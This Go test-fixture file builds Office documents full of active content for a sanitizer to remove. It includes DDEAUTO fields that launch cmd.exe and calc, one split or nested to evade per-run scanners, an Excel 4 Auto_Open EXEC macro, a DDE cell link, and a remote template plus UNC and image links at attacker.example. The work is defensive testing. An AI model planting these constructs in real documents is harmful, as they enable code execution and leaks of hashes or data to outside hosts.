package officetest

import (
	"fmt"
	"strings"
	"testing"
)

const (
	xmlHead = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
	nsW     = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ` +
		`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ` +
		`xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`
	relNS   = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	rootRel = xmlHead + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="rId1" Type="` + relNS + `officeDocument" Target="%s"/></Relationships>`
	// PNG is a 1×1 transparent PNG, used as a picture and an OLE preview.
	PNG = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" +
		"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82"
)

// Rel is one relationship of a fixture.
type Rel struct{ ID, Type, Target, Mode string }

// Rels renders a relationships part; Type is a short name under the
// officeDocument relationships namespace unless it contains "://".
func Rels(rels ...Rel) string {
	var b strings.Builder
	b.WriteString(xmlHead + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for _, r := range rels {
		typ := r.Type
		if !strings.Contains(typ, "://") {
			typ = relNS + typ
		}
		fmt.Fprintf(&b, `<Relationship Id="%s" Type="%s" Target="%s"`, r.ID, typ, r.Target)
		if r.Mode != "" {
			fmt.Fprintf(&b, ` TargetMode="%s"`, r.Mode)
		}
		b.WriteString(`/>`)
	}
	b.WriteString(`</Relationships>`)
	return b.String()
}

// ContentTypes renders [Content_Types].xml with the usual defaults plus
// extra defaults ("ext=type") and overrides ("/part=type").
func ContentTypes(entries ...string) string {
	var b strings.Builder
	b.WriteString(xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>`)
	for _, e := range entries {
		k, v, _ := strings.Cut(e, "=")
		if strings.HasPrefix(k, "/") {
			fmt.Fprintf(&b, `<Override PartName="%s" ContentType="%s"/>`, k, v)
		} else {
			fmt.Fprintf(&b, `<Default Extension="%s" ContentType="%s"/>`, k, v)
		}
	}
	b.WriteString(`</Types>`)
	return b.String()
}

// Content types used by the fixtures.
const (
	CTDocx   = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	CTDocm   = "application/vnd.ms-word.document.macroEnabled.main+xml"
	CTXlsx   = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	CTXlsm   = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	CTPptx   = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
	CTPptm   = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
	ctSheet  = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
	ctSet    = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
	ctVBA    = "application/vnd.ms-office.vbaProject"
	ctOLE    = "application/vnd.openxmlformats-officedocument.oleObject"
	ctAX     = "application/vnd.ms-office.activeX+xml"
	ctAXBin  = "application/vnd.ms-office.activeX"
	ctExtL   = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
	ctSlide  = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
	ctLayout = "application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"
	ctMaster = "application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"
	ctTheme  = "application/vnd.openxmlformats-officedocument.theme+xml"
)

// WordBody wraps body XML into a document part.
func WordBody(body string) string {
	return xmlHead + `<w:document ` + nsW + `><w:body>` + body +
		`<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440" w:header="720" w:footer="720" w:gutter="0"/></w:sectPr></w:body></w:document>`
}

// Para is a paragraph with one plain run.
func Para(text string) string {
	return `<w:p><w:r><w:t xml:space="preserve">` + text + `</w:t></w:r></w:p>`
}

// Docx builds a Word package with the given main content type, document body,
// extra document relationships, extra parts and content-type entries.
func Docx(t testing.TB, mainCT, body string, rels []Rel, extra []Part, cts ...string) []byte {
	t.Helper()
	parts := []Part{
		{"[Content_Types].xml", ContentTypes(append([]string{"/word/document.xml=" + mainCT}, cts...)...)},
		{"_rels/.rels", fmt.Sprintf(rootRel, "word/document.xml")},
		{"word/document.xml", WordBody(body)},
		{"word/_rels/document.xml.rels", Rels(rels...)},
	}
	return Zip(t, append(parts, extra...)...)
}

// DDEField is a DDEAUTO complex field whose instruction is split across
// three runs (so a per-run scanner misses it), with a visible result.
const DDEField = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>` +
	`<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>` +
	`<w:r><w:instrText xml:space="preserve">AUTO c:\\Windows\\System32\\cmd.exe </w:instrText></w:r>` +
	`<w:r><w:instrText xml:space="preserve">"/k calc.exe"</w:instrText></w:r>` +
	`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field result text</w:t></w:r>` +
	`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

// NestedDDEField hides the keyword in a nested QUOTE field.
const NestedDDEField = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>` +
	`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>` +
	`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>` +
	`<w:r><w:instrText xml:space="preserve"> c:\\x.exe "a" </w:instrText></w:r>` +
	`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>nested result</w:t></w:r>` +
	`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

// PageField is an allowed field that must survive.
const PageField = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>` +
	`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

// SimpleDDE is a DDEAUTO field in w:fldSimple, and an INCLUDEPICTURE of a
// remote image.
const SimpleDDE = `<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/c calc&quot; "><w:r><w:t>simple result</w:t></w:r></w:fldSimple></w:p>` +
	`<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://attacker.example/x.png&quot; \d"><w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>`

// WordActive returns a macro-enabled Word document carrying every construct
// the handler removes: a VBA project (with vbaData), DDEAUTO split across
// runs, a nested-QUOTE DDE, fldSimple DDE and INCLUDEPICTURE, a remote
// template, an ActiveX control, an OLE object with a picture preview, and
// external hyperlinks (web and UNC). A PAGE field and a picture must stay.
func WordActive(t testing.TB) []byte {
	t.Helper()
	body := Para("Hello kyojin") + DDEField + NestedDDEField + SimpleDDE + PageField +
		`<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>web link</w:t></w:r></w:hyperlink></w:p>` +
		`<w:p><w:hyperlink r:id="rIdUNC"><w:r><w:t>unc link</w:t></w:r></w:hyperlink></w:p>` +
		`<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:72pt" o:ole="">` +
		`<v:imagedata r:id="rIdPrev" o:title=""/></v:shape>` +
		`<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>` +
		`<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1026" type="#_x0000_t75" style="width:72pt;height:24pt">` +
		`<v:imagedata r:id="rIdPrev" o:title=""/></v:shape>` +
		`<w:control r:id="rIdAx" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>`
	rels := []Rel{
		{"rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", ""},
		{"rIdSet", "settings", "settings.xml", ""},
		{"rIdLink", "hyperlink", "http://attacker.example/landing", "External"},
		{"rIdUNC", "hyperlink", `file://\\attacker.example\share\x.docx`, "External"},
		{"rIdPrev", "image", "media/image1.png", ""},
		{"rIdOle", "oleObject", "embeddings/oleObject1.bin", ""},
		{"rIdAx", "control", "activeX/activeX1.xml", ""},
	}
	extra := []Part{
		{"word/vbaProject.bin", "\xd0\xcf\x11\xe0 fake VBA storage"},
		{"word/_rels/vbaProject.bin.rels", Rels(Rel{"rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml", ""})},
		{"word/vbaData.xml", xmlHead + `<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`},
		{"word/settings.xml", xmlHead + `<w:settings ` + nsW + `><w:attachedTemplate r:id="rIdTpl"/><w:defaultTabStop w:val="720"/></w:settings>`},
		{"word/_rels/settings.xml.rels", Rels(Rel{"rIdTpl", "attachedTemplate", "http://attacker.example/template.dotm", "External"})},
		{"word/media/image1.png", PNG},
		{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0 fake OLE object"},
		{"word/activeX/activeX1.xml", xmlHead + `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>`},
		{"word/activeX/_rels/activeX1.xml.rels", Rels(Rel{"rId1", "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin", ""})},
		{"word/activeX/activeX1.bin", "fake activeX persistence"},
	}
	return Docx(t, CTDocm, body, rels, extra,
		"bin="+ctVBA, "/word/vbaData.xml=application/vnd.ms-word.vbaData+xml", "/word/settings.xml="+ctSet,
		"/word/embeddings/oleObject1.bin="+ctOLE, "/word/activeX/activeX1.xml="+ctAX, "/word/activeX/activeX1.bin="+ctAXBin)
}

// Xlsx builds a workbook with the given main content type, one sheet with
// sheetData XML, extra workbook XML (inserted after sheets), extra workbook
// relationships and parts.
func Xlsx(t testing.TB, mainCT, sheetData, sheetTail, moreSheets, wbTail string, rels []Rel, extra []Part, cts ...string) []byte {
	t.Helper()
	ns := `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	parts := []Part{
		{"[Content_Types].xml", ContentTypes(append([]string{"/xl/workbook.xml=" + mainCT, "/xl/worksheets/sheet1.xml=" + ctSheet}, cts...)...)},
		{"_rels/.rels", fmt.Sprintf(rootRel, "xl/workbook.xml")},
		{"xl/workbook.xml", xmlHead + `<workbook ` + ns + `><sheets><sheet name="Sheet1" sheetId="1" r:id="rIdS1"/>` + moreSheets + `</sheets>` + wbTail + `</workbook>`},
		{"xl/_rels/workbook.xml.rels", Rels(append([]Rel{{"rIdS1", "worksheet", "worksheets/sheet1.xml", ""}}, rels...)...)},
		{"xl/worksheets/sheet1.xml", xmlHead + `<worksheet ` + ns + `><sheetData>` + sheetData + `</sheetData>` + sheetTail + `</worksheet>`},
	}
	return Zip(t, append(parts, extra...)...)
}

// XlsxExternalLink returns a workbook whose cell formula reads another
// workbook through an externalLink part and a DDE link (=cmd|'/c calc'!A0).
func XlsxExternalLink(t testing.TB) []byte {
	t.Helper()
	extLink := xmlHead + `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">` +
		`<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`
	ddeLink := xmlHead + `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` +
		`<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`
	return Xlsx(t, CTXlsx,
		`<row r="1"><c r="A1"><v>42</v></c><c r="B1"><f>[1]Sheet1!A1</f><v>7</v></c><c r="C1"><f>[2]!A0</f><v>0</v></c></row>`, "", "",
		`<externalReferences><externalReference r:id="rIdX1"/><externalReference r:id="rIdX2"/></externalReferences>`,
		[]Rel{{"rIdX1", "externalLink", "externalLinks/externalLink1.xml", ""}, {"rIdX2", "externalLink", "externalLinks/externalLink2.xml", ""}},
		[]Part{
			{"xl/externalLinks/externalLink1.xml", extLink},
			{"xl/externalLinks/_rels/externalLink1.xml.rels", Rels(Rel{"rId1", "externalLinkPath", `file:///\\attacker.example\share\book.xlsx`, "External"})},
			{"xl/externalLinks/externalLink2.xml", ddeLink},
		},
		"/xl/externalLinks/externalLink1.xml="+ctExtL, "/xl/externalLinks/externalLink2.xml="+ctExtL)
}

// XlsmActive returns a macro-enabled workbook with a VBA project, an Excel 4
// macro sheet with Auto_Open, an OLE object and an ActiveX control on the sheet.
func XlsmActive(t testing.TB) []byte {
	t.Helper()
	return Xlsx(t, CTXlsm, `<row r="1"><c r="A1"><v>1</v></c></row>`,
		`<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rIdO"/></oleObjects><controls><control shapeId="1026" r:id="rIdC" name="CommandButton1"/></controls>`,
		`<sheet name="Macro1" sheetId="2" state="hidden" r:id="rIdM"/>`,
		`<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>`,
		[]Rel{
			{"rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", ""},
			{"rIdM", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", ""},
		},
		[]Part{
			{"xl/vbaProject.bin", "fake vba"},
			{"xl/macrosheets/sheet1.xml", xmlHead + `<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>`},
			{"xl/worksheets/_rels/sheet1.xml.rels", Rels(
				Rel{"rIdO", "oleObject", "../embeddings/oleObject1.bin", ""},
				Rel{"rIdC", "control", "../activeX/activeX1.xml", ""})},
			{"xl/embeddings/oleObject1.bin", "fake ole"},
			{"xl/activeX/activeX1.xml", xmlHead + `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistPropertyBag"/>`},
		},
		"bin="+ctVBA, "/xl/macrosheets/sheet1.xml=application/vnd.ms-excel.macrosheet+xml",
		"/xl/embeddings/oleObject1.bin="+ctOLE, "/xl/activeX/activeX1.xml="+ctAX)
}

const (
	nsP = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ` +
		`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ` +
		`xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`
	emptyTree = `<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>` +
		`<p:grpSpPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/><a:chOff x="0" y="0"/><a:chExt cx="0" cy="0"/></a:xfrm></p:grpSpPr>%s</p:spTree></p:cSld>`
)

func theme() string {
	var clr strings.Builder
	for _, n := range []string{"dk1", "lt1", "dk2", "lt2", "accent1", "accent2", "accent3", "accent4", "accent5", "accent6", "hlink", "folHlink"} {
		fmt.Fprintf(&clr, `<a:%s><a:srgbClr val="336699"/></a:%s>`, n, n)
	}
	fill := `<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>`
	line := `<a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln>`
	eff := `<a:effectStyle><a:effectLst/></a:effectStyle>`
	return xmlHead + `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="T"><a:themeElements>` +
		`<a:clrScheme name="C">` + clr.String() + `</a:clrScheme>` +
		`<a:fontScheme name="F"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont>` +
		`<a:minorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme>` +
		`<a:fmtScheme name="S"><a:fillStyleLst>` + fill + fill + fill + `</a:fillStyleLst><a:lnStyleLst>` + line + line + line +
		`</a:lnStyleLst><a:effectStyleLst>` + eff + eff + eff + `</a:effectStyleLst><a:bgFillStyleLst>` + fill + fill + fill +
		`</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`
}

// TextShape is a slide text box.
func TextShape(id int, text, hlink string) string {
	return fmt.Sprintf(`<p:sp><p:nvSpPr><p:cNvPr id="%d" name="T%d">%s</p:cNvPr><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>`+
		`<p:spPr><a:xfrm><a:off x="457200" y="%d"/><a:ext cx="6000000" cy="600000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>`+
		`<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US"/><a:t>%s</a:t></a:r></a:p></p:txBody></p:sp>`, id, id, hlink, 457200+id*700000, text)
}

// Pptx builds a presentation with one master, one layout and the given
// slides (spTree content), slide relationships, extra parts and types.
func Pptx(t testing.TB, mainCT string, slides []string, slideRels [][]Rel, extra []Part, cts ...string) []byte {
	t.Helper()
	ct := []string{"/ppt/presentation.xml=" + mainCT, "/ppt/slideMasters/slideMaster1.xml=" + ctMaster,
		"/ppt/slideLayouts/slideLayout1.xml=" + ctLayout, "/ppt/theme/theme1.xml=" + ctTheme}
	presRels := []Rel{{"rIdM", "slideMaster", "slideMasters/slideMaster1.xml", ""}, {"rIdT", "theme", "theme/theme1.xml", ""}}
	var ids strings.Builder
	var slideParts []Part
	for i, s := range slides {
		n := i + 1
		ct = append(ct, fmt.Sprintf("/ppt/slides/slide%d.xml=%s", n, ctSlide))
		presRels = append(presRels, Rel{fmt.Sprintf("rIdS%d", n), "slide", fmt.Sprintf("slides/slide%d.xml", n), ""})
		fmt.Fprintf(&ids, `<p:sldId id="%d" r:id="rIdS%d"/>`, 255+n, n)
		var rels []Rel
		if i < len(slideRels) {
			rels = slideRels[i]
		}
		slideParts = append(slideParts,
			Part{fmt.Sprintf("ppt/slides/slide%d.xml", n), xmlHead + `<p:sld ` + nsP + `>` + fmt.Sprintf(emptyTree, s) + `<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>`},
			Part{fmt.Sprintf("ppt/slides/_rels/slide%d.xml.rels", n), Rels(append([]Rel{{"rIdL", "slideLayout", "../slideLayouts/slideLayout1.xml", ""}}, rels...)...)})
	}
	parts := []Part{
		{"[Content_Types].xml", ContentTypes(append(ct, cts...)...)},
		{"_rels/.rels", fmt.Sprintf(rootRel, "ppt/presentation.xml")},
		{"ppt/presentation.xml", xmlHead + `<p:presentation ` + nsP + `><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rIdM"/></p:sldMasterIdLst>` +
			`<p:sldIdLst>` + ids.String() + `</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`},
		{"ppt/_rels/presentation.xml.rels", Rels(presRels...)},
		{"ppt/slideMasters/slideMaster1.xml", xmlHead + `<p:sldMaster ` + nsP + `>` + fmt.Sprintf(emptyTree, "") +
			`<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>` +
			`<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rIdL"/></p:sldLayoutIdLst></p:sldMaster>`},
		{"ppt/slideMasters/_rels/slideMaster1.xml.rels", Rels(Rel{"rIdL", "slideLayout", "../slideLayouts/slideLayout1.xml", ""}, Rel{"rIdT", "theme", "../theme/theme1.xml", ""})},
		{"ppt/slideLayouts/slideLayout1.xml", xmlHead + `<p:sldLayout ` + nsP + ` type="blank">` + fmt.Sprintf(emptyTree, "") + `<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>`},
		{"ppt/slideLayouts/_rels/slideLayout1.xml.rels", Rels(Rel{"rIdM", "slideMaster", "../slideMasters/slideMaster1.xml", ""})},
		{"ppt/theme/theme1.xml", theme()},
	}
	parts = append(parts, slideParts...)
	return Zip(t, append(parts, extra...)...)
}

// PptmActive returns a macro-enabled presentation with a VBA project, an
// embedded OLE object in a graphic frame (with a picture fallback), an
// ActiveX control, a ppaction://program click action and an external link.
func PptmActive(t testing.TB) []byte {
	t.Helper()
	ole := `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="5" name="Object 4"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>` +
		`<p:xfrm><a:off x="457200" y="3000000"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">` +
		`<p:oleObj name="Packager" r:id="rIdOle" imgW="914400" imgH="914400" progId="Package"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>` +
		`<p:blipFill><a:blip r:embed="rIdImg"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="457200" y="3000000"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic></p:oleObj>` +
		`</a:graphicData></a:graphic></p:graphicFrame>`
	slide := TextShape(2, "Hello slide", "") +
		TextShape(3, "run program", `<a:hlinkClick r:id="rIdProg" action="ppaction://program"/>`) +
		TextShape(4, "web link", `<a:hlinkClick r:id="rIdWeb"/>`) + ole
	rels := []Rel{
		{"rIdProg", "hyperlink", `file:///C:\Windows\System32\calc.exe`, "External"},
		{"rIdWeb", "hyperlink", "https://attacker.example/", "External"},
		{"rIdOle", "oleObject", "../embeddings/oleObject1.bin", ""},
		{"rIdImg", "image", "../media/image1.png", ""},
	}
	extra := []Part{
		{"ppt/vbaProject.bin", "fake vba"},
		{"ppt/embeddings/oleObject1.bin", "fake ole"},
		{"ppt/media/image1.png", PNG},
	}
	data := Pptx(t, CTPptm, []string{slide}, [][]Rel{rels}, extra, "bin="+ctVBA, "/ppt/embeddings/oleObject1.bin="+ctOLE)
	return addRel(t, data, "ppt/_rels/presentation.xml.rels", Rel{"rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", ""})
}
